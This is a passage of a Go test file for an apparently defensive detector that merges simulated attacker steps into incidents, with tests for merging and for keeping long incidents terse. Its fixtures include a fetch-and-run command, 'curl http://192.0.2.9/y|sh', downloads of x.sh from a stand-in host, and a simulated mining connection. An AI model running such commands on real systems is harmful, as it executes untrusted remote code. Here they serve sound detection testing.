		for _, st := range x.Steps {
			if st.Finding != "" && !slices.Contains(x.FindingIDs, st.Finding) {
				t.Errorf("the step %s is of %s, which is not among %v", st.What, st.Finding, x.FindingIDs)
			}
		}
	}

	// Nothing has come of it yet: it is told all the same, without a finding.
	s = newScene(nil)
	s.job(attacker, head, "id", succeeded).wait(20*time.Second).conn(worker, pool, 443)
	if len(s.rows) != 1 || s.rows[0].State != detectors.Open || s.rows[0].Chain || len(s.said) != 0 {
		t.Errorf("%d rows, %d said", len(s.rows), len(s.said))
	}
}

// TestMergedIsTold: of two incidents that were told of and are one, the one has a last row that names the other.
func TestMergedIsTold(t *testing.T) {
	s := newScene(nil)
	s.job(attacker, head, fetch, succeeded).get(head, evil, "http://198.51.100.77/x.sh")
	s.job(other, worker, "curl http://192.0.2.9/y|sh", succeeded).get(worker, "192.0.2.9", "http://192.0.2.9/y")
	s.job(other, head, "id", succeeded).end()
	if len(s.incidents) != 1 || len(s.said) != 3 || s.said[0].ID() == s.said[1].ID() || s.said[2].ID() != s.said[0].ID() {
		t.Errorf("%d incidents, %d said", len(s.incidents), len(s.said))
	}
	merged := 0
	for _, x := range s.rows {
		if x.State == detectors.Merged {
			merged++
			if x.Into != s.incidents[0].ID || !slices.Contains(s.incidents[0].Merged, x.ID) {
				t.Errorf("%s is merged into %q", x.ID, x.Into)
			}
		}
	}
	if merged != 1 {
		t.Errorf("%d were merged", merged)
	}
}

// TestALongIncidentIsTerse: one that grows by a step a minute for two days does not have a row for each.
func TestALongIncidentIsTerse(t *testing.T) {
	s := newScene(nil)
	s.job(attacker, head, fetch, succeeded).get(head, evil, "http://198.51.100.77/x.sh")
	const minutes = 2 * 24 * 60
	for i := range minutes {
		s.wait(time.Minute).conn(head, netip.AddrFrom4([4]byte{50, 0, byte(i >> 8), byte(i)}).String(), 443).find("mining/stratum", head, pool, detectors.High, observed)
	}
	s.end()
	if n := len(s.rows); n < 10 || n > minutes/60+12 || len(s.said) > n {
		t.Errorf("%d rows, %d said in two days", n, len(s.said))
	}
}
